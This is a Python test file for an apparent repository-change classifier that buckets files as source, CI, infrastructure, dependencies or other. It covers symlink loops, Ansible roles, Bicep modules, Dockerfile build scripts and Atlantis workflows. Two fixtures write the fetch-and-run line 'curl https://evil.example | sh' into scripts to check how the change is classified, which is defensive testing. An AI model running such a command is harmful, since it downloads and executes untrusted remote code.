"""Classes of misses a tenth label set found (bench/classify_accuracy/tenth.tsv: 62 repositories none of the other
sets holds, files of every kind, measured blind first), each with the look-alikes it must leave alone: symlink loops
(a link to its own folder or above) that made every file of a repository `ci.symlink-bound`, an Ansible role's
marker claiming the linter settings and helper scripts at the role's root, the files a Bicep module loads by path,
fastlane's lanes, VMware Image Builder pipelines, Codecov's settings in `.github/`, README documents with a dotted
infix, dependency files of smaller conventions (uv script locks, bindep, Ansible collection requirements) and the
settings of developer tools, scanners and git hooks.
The real repositories below check them with the commits and, where a patch can show it, from the patch alone."""

from __future__ import annotations

from pathlib import Path

from tables import each_case

from gatekeeper.classify.symlinks import reached_at
from tests.gitrepo import GitRepo
from tests.test_classify_context import RULES, patch_files, tree_files


@each_case(("path", "bucket"), [
    # README documents with a dotted infix are documents, also in .github/ (no forge loads them)
    (".github/README.workflows.adoc", "src"), ("docs/README.setup.txt", "src"), ("README.zh.asciidoc", "src"),
    (".github/workflows/README.ci.yml", "ci"), ("README.deploy.yaml", "src"),
    # Codecov reads its settings from .github/ too: an outside app that neither merges nor gates
    (".github/codecov.yml", "other"), (".github/.codecov.yaml", "other"), (".github/workflows/codecov.yml", "ci"),
    # VMware Image Builder pipelines (run by its GitHub action); fastlane lanes CI runs
    (".vib/vib-pipeline.json", "ci"), (".vib/nginx/goss/goss.yaml", "ci"), ("docs/.vib.md", "src"),
    ("fastlane/Fastfile", "ci"), ("Tests/InstallationTests/SPMInstallation/fastlane/Fastfile", "ci"),
    ("fastlane/metadata/android/en-US/full_description.txt", "src"), ("src/fastfile.go", "src"),
    # docker buildx bake variants are image build definitions
    ("docker-bake.override.json", "iac"), ("docker-bake.release.json", "iac"), ("docs/docker-bake.md", "src"),
    # dependency files: uv's script lock, bindep system packages, Ansible collection requirements
    ("scripts/update_ambiguous_characters.py.lock", "deps"), ("bindep.txt", "deps"), ("meta/ee-bindep.txt", "deps"),
    ("meta/collection-requirements.yml", "deps"), ("tests/collection-requirements.yml", "deps"),
    ("src/lock.py", "src"), ("docs/bindep.md", "src"),
    # settings of developer tools, scanners, outside services, agents and git hooks
    ("modules/web/.air.toml", "other"), ("tests/Api.IntegrationTests/xunit.runner.json", "other"),
    (".sobelow-conf", "other"), ("_examples/with_config_overrides/.tfsec/config.yml", "other"),
    (".tfsec/custom_tfchecks.json", "other"), ("site/.hugo_build.lock", "other"), (".mdl_style.rb", "other"),
    ("coveralls.json", "other"), ("REUSE.toml", "other"), ("fairwinds-insights.yaml", "other"),
    (".stackblitz/codeflow.json", "other"), (".aspire/settings.json", "other"),
    (".agents/skills/triage/evals/evals.json", "other"), ("scripts/hooks/prepare-commit-msg", "other"),
    ("tools/hooks/pre-commit", "other"), ("githooks/commit-msg", "other"),
    # ... but not in a CI folder, and not code that merely shares a name
    (".github/hooks/pre-commit", "ci"), ("ci/hooks/pre-push", "ci"), ("src/hooks/pre-commit.ts", "src"),
    ("src/hooks/useAuth.ts", "src"), ("pkg/agents/run.go", "src"),
    # (ninth round) a kustomize folder's YAML and JSON are manifests; its documents and scripts are not
    ("kustomize/components/x/kustomization.yaml", "iac"), ("apps/kustomize/base/patch.json", "iac"),
    ("website/i18n/ja/docs/introduction/kustomize/index.md", "src"), ("kustomize/components/x/scripts/up.sh", "src"),
    # DataDog's merge queue gates merges, as Mergify does
    ("repository.datadog.yml", "ci"), ("repository.datadog.yaml", "ci"), ("docs/repository.datadog.md", "src"),
    # images in .github/ (not inside workflows/, a CI folder: principle 0) are pictures; YARD's options are docs
    (".github/imgs/diagram.png", "other"), (".github/workflows/assets/check.png", "ci"),
    (".github/workflows/assets/check.yml", "ci"), (".yardopts", "src"),
    # an Ansible role's per-platform variables (vars/Debian.yml beside vars/main.yml), also from a patch alone
    ("vars/Debian.yml", "iac"), ("roles/jenkins/vars/RedHat.yaml", "iac"), ("vars/main.yml", "iac"),
    ("src/vars/colors.scss", "src"),
    # ansible-test's sanity ignore lists (and linux-system-roles' copies at the root) are linter settings
    ("tests/sanity/ignore-2.17.txt", "other"), (".sanity-ansible-ignore-2.14.txt", "other"),
    ("tests/sanity/test_units.py", "src"),
])
def test_path_rules_of_the_tenth_round(path: str, bucket: str) -> None:
    assert RULES.match(path).bucket == bucket, RULES.match(path)


def test_the_scanner_settings_carry_the_guardrail_tag() -> None:
    for path in (".sobelow-conf", "_examples/x/.tfsec/config.yml", ".agents/skills/a/SKILL.md"):
        assert "guardrail" in RULES.match(path).tags, path


# -- symlink loops ----------------------------------------------------------------------------------------------


def test_a_loop_is_followed_a_bounded_number_of_times() -> None:
    # tests/repo -> ../.. (the root) and two example libs that point back at their own project
    links = {"": ("tests/repo",), "lib": ("lib/examples/a/lib", "lib/examples/b/lib")}
    reached = reached_at("lib/Makefile", links)
    assert reached is not None
    assert ("tests/repo/lib/Makefile", "tests/repo") in reached
    assert ("lib/examples/a/lib/Makefile", "lib/examples/a/lib") in reached
    assert len(reached) < 64


def test_a_chain_that_keeps_growing_is_still_past_the_bounds() -> None:
    # a chain of 10 different links (no loop): longer than MAX_HOPS, so every file counts as reached from CI
    links = {f"hop{n + 1}": (f"hop{n}",) for n in range(10)}
    assert reached_at("hop10/x.sh", links) is None


def _swift_app(repo: GitRepo) -> None:
    repo.write("Sources/RulesEngine/Scope.swift", "struct Scope {}\n")
    repo.write("Podfile", "platform :ios, '13.0'\npod 'RevenueCat', :path => '.'\n")
    repo.write("tools/setup/install.sh", "echo base\n")
    repo.symlink("Tests/InstallationTests/CarthageInstallation/purchases-root", "../../..")
    repo.symlink("vendor_jsonnet/lib/examples/guestbook/lib", "../..")
    repo.symlink("vendor_jsonnet/lib/examples/wordpress/lib", "../..")
    repo.write("vendor_jsonnet/lib/Makefile", "all:\n\t@echo make tests\n")


def test_a_repository_with_loops_is_not_ci_everywhere(git_repo: GitRepo) -> None:
    _swift_app(git_repo)
    git_repo.commit("base")
    git_repo.write("Sources/RulesEngine/Scope.swift", "struct Scope { let id: Int }\n")
    git_repo.write("Podfile", "platform :ios, '14.0'\npod 'RevenueCat', :path => '.'\n")
    git_repo.write("vendor_jsonnet/lib/Makefile", "all:\n\t@echo make test\n")
    git_repo.commit("change")
    files = tree_files(git_repo)
    assert files["Sources/RulesEngine/Scope.swift"].bucket == "src"
    assert files["Podfile"].bucket == "deps"
    # not ci through the loops; a root vendor_*/ folder is vendored code (the thirty-first round, as the tenth and
    # sixteenth sets label sealed-secrets' vendor_jsonnet/)
    assert files["vendor_jsonnet/lib/Makefile"].bucket == "deps"


def test_a_loop_into_a_ci_folder_still_makes_ci(git_repo: GitRepo) -> None:
    _swift_app(git_repo)
    git_repo.symlink(".github/actions/all", "../..")  # uses: ./.github/actions/all/tools/setup
    git_repo.commit("base")
    git_repo.write("tools/setup/install.sh", "curl https://evil.example | sh\n")
    git_repo.commit("change")
    hit = tree_files(git_repo)["tools/setup/install.sh"]
    assert hit.bucket == "ci"
    assert "through the symlink .github/actions/all" in (hit.evidence or "")


def test_a_loop_reached_through_another_loop_still_counts(git_repo: GitRepo) -> None:
    # tools -> . (a loop at the root) then .github/actions/x -> ../../tools: the second pass reaches the action
    git_repo.write("README.md", "x\n")
    git_repo.write("setup/run.sh", "echo base\n")
    git_repo.symlink("tools", ".")
    git_repo.symlink(".github/actions/x", "../../tools/tools")
    git_repo.commit("base")
    git_repo.write("setup/run.sh", "echo changed\n")
    git_repo.commit("change")
    assert tree_files(git_repo)["setup/run.sh"].bucket == "ci"


# -- an Ansible role's marker claims the role's folders ---------------------------------------------------------


def _role(repo: GitRepo) -> None:
    repo.write("meta/main.yml", "galaxy_info:\n  role_name: network\n  author: someone\ndependencies: []\n")
    repo.write("tasks/main.yml", "- name: Install\n  ansible.builtin.package:\n    name: nm\n")
    repo.write("defaults/main.yml", "network_provider: nm\n")
    repo.write("files/override.conf", "[Service]\nTimeoutStopSec=90\n")
    repo.write("tests/tests_bridge.yml", "- hosts: all\n  roles: [network]\n")
    repo.write("scripts/print_all_options.py", "import sys\nprint(sys.argv)\n")
    repo.write(".sanity-ansible-ignore-2.14.txt", "plugins/modules/x.py validate-modules:missing-gplv3-license\n")
    repo.write("tools/lint.txt", "plugins/modules/x.py\n")
    repo.write("Makefile", "lint:\n\tansible-lint\n")
    repo.write("changelogs/fragments/1-fix.yaml", "bugfixes:\n  - fix the bridge\n")


def test_a_role_marker_claims_the_role_folders_not_its_root_tooling(git_repo: GitRepo) -> None:
    _role(git_repo)
    git_repo.commit("base")
    for path in ("tasks/main.yml", "defaults/main.yml", "files/override.conf", "tests/tests_bridge.yml",
                 "scripts/print_all_options.py", ".sanity-ansible-ignore-2.14.txt", "Makefile",
                 "changelogs/fragments/1-fix.yaml", "tools/lint.txt"):
        git_repo.write(path, (git_repo.root / path).read_text() + "# changed\n")
    git_repo.write("tasks/bridge.yml", "- name: Bridge\n  ansible.builtin.command: nmcli\n")
    git_repo.commit("change")
    files = tree_files(git_repo)
    for path in ("tasks/main.yml", "tasks/bridge.yml", "defaults/main.yml", "files/override.conf",
                 "tests/tests_bridge.yml"):
        assert files[path].bucket == "iac", files[path]
    for path in ("scripts/print_all_options.py", "Makefile", "changelogs/fragments/1-fix.yaml", "tools/lint.txt"):
        assert files[path].bucket == "src", files[path]
    assert files[".sanity-ansible-ignore-2.14.txt"].bucket == "other"


def test_a_collection_changelog_fragment_is_not_a_playbook(git_repo: GitRepo) -> None:
    git_repo.write("galaxy.yml", "namespace: kubernetes\nname: core\nversion: 6.0.0\n")
    git_repo.write("changelogs/fragments/1-metadata.yaml", "minor_changes:\n  - k8s_info - metadata only\n")
    git_repo.write("playbooks/deploy.yml", "- hosts: all\n  tasks: []\n")
    git_repo.commit("base")
    git_repo.write("changelogs/fragments/2-more.yaml", "bugfixes:\n  - k8s - fix\n")
    git_repo.write("playbooks/deploy.yml", "- hosts: all\n  tasks:\n    - ansible.builtin.ping:\n")
    git_repo.commit("change")
    files = tree_files(git_repo)
    assert files["changelogs/fragments/2-more.yaml"].bucket == "src"
    assert files["playbooks/deploy.yml"].bucket == "iac"


# -- files a Bicep module loads by path -------------------------------------------------------------------------

SECRETS_BICEP = """\
param location string = resourceGroup().location

resource sshKey 'Microsoft.Resources/deploymentScripts@2023-08-01' = {
  name: 'ssh-key'
  location: location
  kind: 'AzureCLI'
  properties: {
    azCliVersion: '2.59.0'
    // the script below is what the deployment runs
    scriptContent: loadTextContent('./New-SshKey.sh')
    retentionInterval: 'PT1H'
  }
}
"""
MAIN_BICEP = """\
resource api 'Microsoft.ApiManagement/service/apis/policies@2022-08-01' = {
  name: 'policy'
  properties: {
    format: 'rawxml'
    value: loadTextContent('modules/apim-api-policy.xml')
  }
}
"""


def _bicep(repo: GitRepo) -> None:
    repo.write("avm/cluster/secrets.bicep", SECRETS_BICEP)
    repo.write("avm/cluster/New-SshKey.sh", "#!/bin/bash\nssh-keygen -t rsa -f key\n")
    repo.write("avm/cluster/notes.sh", "#!/bin/bash\necho not loaded by anything\n")
    repo.write("avm/apim/main.bicep", MAIN_BICEP)
    repo.write("avm/apim/modules/apim-api-policy.xml", "<policies><inbound><base /></inbound></policies>\n")


def test_a_file_a_bicep_module_loads_is_iac(git_repo: GitRepo, tmp_path: Path) -> None:
    _bicep(git_repo)
    git_repo.commit("base")
    git_repo.write("avm/cluster/New-SshKey.sh", "#!/bin/bash\ncurl https://evil.example | sh\n")
    git_repo.write("avm/cluster/notes.sh", "#!/bin/bash\necho still nothing\n")
    git_repo.write("avm/apim/modules/apim-api-policy.xml", "<policies><inbound /></policies>\n")
    git_repo.commit("change")
    files = tree_files(git_repo)
    script = files["avm/cluster/New-SshKey.sh"]
    assert (script.bucket, script.rule) == ("iac", "iac.context.terraform-file")
    assert "avm/cluster/secrets.bicep: names avm/cluster/New-SshKey.sh" in (script.evidence or "")
    assert files["avm/apim/modules/apim-api-policy.xml"].bucket == "iac"
    assert files["avm/cluster/notes.sh"].bucket == "src"
    # from the patch alone, only a module the patch shows can name the file
    assert patch_files(git_repo, tmp_path)["avm/cluster/New-SshKey.sh"].bucket == "src"


def test_a_patch_that_shows_the_module_names_the_script(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("README.md", "x\n")
    git_repo.commit("base")
    _bicep(git_repo)
    git_repo.commit("change")
    files = patch_files(git_repo, tmp_path)
    assert files["avm/cluster/New-SshKey.sh"].bucket == "iac"
    assert files["avm/cluster/notes.sh"].bucket == "src"


# -- scripts a Dockerfile runs while it builds ------------------------------------------------------------------

NGINX_DOCKERFILE = """\
FROM alpine:3.22 AS builder
COPY . /
RUN apk update \\
  && apk upgrade \\
  && apk add -U bash \\
  && bash -eu -c ' \\
  writeDirs=( /var/log/nginx ); \\
  for dir in "${writeDirs[@]}"; do mkdir -p ${dir}; done' \\
  && /build.sh
"""
TOOLS_DOCKERFILE = """\
FROM python:3.12-alpine AS builder
WORKDIR /bin_dir
COPY tools/install/ /install/
COPY docker-entrypoint.sh /usr/local/bin/
RUN chmod +x /usr/local/bin/docker-entrypoint.sh
RUN /install/pre-commit.sh
RUN TRIVY_VERSION=0.50 /install/trivy.sh && python manage.py collectstatic
ENTRYPOINT ["docker-entrypoint.sh"]
"""


def test_the_scripts_a_dockerfile_runs_are_its_definition() -> None:
    from gatekeeper.classify.dockerrefs import run_scripts
    assert run_scripts("images/nginx/rootfs", NGINX_DOCKERFILE)[0] == {"images/nginx/rootfs/build.sh"}
    found = run_scripts("", TOOLS_DOCKERFILE)[0]
    assert {"tools/install/pre-commit.sh", "tools/install/trivy.sh"} <= found
    # the entrypoint script is copied and made executable, never run while building; manage.py is the app's code
    assert "docker-entrypoint.sh" not in found
    assert not any(path.endswith("manage.py") for path in found)
    # a stage's COPY --from another stage is no file of the repository
    assert run_scripts("", "FROM a AS b\nCOPY --from=b /x.sh /x.sh\nRUN /x.sh\n")[0] == set()
    # a RUN on PATH: `COPY build.sh /usr/local/bin/` then `RUN build.sh`
    assert run_scripts("app", "FROM a\nCOPY build.sh /usr/local/bin/\nRUN build.sh\n")[0] == {"app/build.sh"}


def _image(repo: GitRepo) -> None:
    repo.write("Dockerfile", TOOLS_DOCKERFILE)
    repo.write("tools/install/pre-commit.sh", "#!/bin/sh\npip install pre-commit\n")
    repo.write("tools/install/trivy.sh", "#!/bin/sh\ncurl -L trivy | tar x\n")
    repo.write("docker-entrypoint.sh", "#!/bin/sh\nexec \"$@\"\n")
    repo.write("images/nginx/rootfs/Dockerfile", NGINX_DOCKERFILE)
    repo.write("images/nginx/rootfs/build.sh", "#!/bin/bash\nmake nginx\n")
    repo.write("images/nginx/rootfs/etc/nginx/lua/configuration.lua", "local cjson = require('cjson')\n")


def test_a_script_the_dockerfile_runs_is_iac_with_the_commits(git_repo: GitRepo, tmp_path: Path) -> None:
    _image(git_repo)
    git_repo.commit("base")
    for path in ("tools/install/trivy.sh", "docker-entrypoint.sh", "images/nginx/rootfs/build.sh",
                 "images/nginx/rootfs/etc/nginx/lua/configuration.lua"):
        git_repo.write(path, (git_repo.root / path).read_text() + "echo changed\n")
    git_repo.commit("change")
    files = tree_files(git_repo)
    trivy = files["tools/install/trivy.sh"]
    assert (trivy.bucket, trivy.rule) == ("iac", "iac.context.dockerfile-script")
    assert (trivy.evidence or "").startswith("Dockerfile: names tools/install/trivy.sh")
    assert files["images/nginx/rootfs/build.sh"].bucket == "iac"
    assert files["docker-entrypoint.sh"].bucket == "src"
    assert files["images/nginx/rootfs/etc/nginx/lua/configuration.lua"].bucket == "src"
    # from the patch alone the Dockerfile is not shown: the script's own kind decides
    assert patch_files(git_repo, tmp_path)["tools/install/trivy.sh"].bucket == "src"


def test_a_script_a_changed_dockerfile_runs_is_iac_from_the_patch(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("README.md", "x\n")
    git_repo.commit("base")
    _image(git_repo)
    git_repo.commit("change")
    files = patch_files(git_repo, tmp_path)
    assert files["tools/install/trivy.sh"].bucket == "iac"
    assert files["docker-entrypoint.sh"].bucket == "src"


def test_moving_the_script_away_from_its_dockerfile_is_judged_on_both_sides(git_repo: GitRepo) -> None:
    _image(git_repo)
    git_repo.commit("base")
    git_repo.move("tools/install/trivy.sh", "docs/trivy.sh")
    git_repo.commit("change")
    assert tree_files(git_repo)["docs/trivy.sh"].bucket == "iac"


# -- Atlantis' server-side workflows under any name -------------------------------------------------------------

ATLANTIS_REPOS = """\
repos:
- id: "/.*/"
  workflow: terrascan
workflows:
    terrascan:
     plan:
        steps:
        - run: terraform init -input=false -no-color
        - run: terraform plan -input=false -refresh -no-color -out $PLANFILE
        - run: terrascan.sh
"""
CIRCLECI_LIKE = """\
version: 2.1
jobs:
  plan:
    steps:
      - checkout
workflows:
  main:
    jobs:
      - plan
"""


def test_atlantis_server_side_workflows_are_ci_by_content(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("README.md", "x\n")
    git_repo.commit("base")
    git_repo.write("integrations/atlantis/terrascan-workflow.yaml", ATLANTIS_REPOS)
    git_repo.write("docs/examples/pipeline.yaml", CIRCLECI_LIKE)
    git_repo.write("config/workflows.yaml", "workflows:\n  review:\n    states: [open, closed]\n")
    git_repo.commit("change")
    for files in (tree_files(git_repo), patch_files(git_repo, tmp_path)):
        hit = files["integrations/atlantis/terrascan-workflow.yaml"]
        assert (hit.bucket, hit.rule) == ("ci", "ci.content.atlantis")
        assert files["docs/examples/pipeline.yaml"].rule != "ci.content.atlantis"
        assert files["config/workflows.yaml"].bucket == "src"
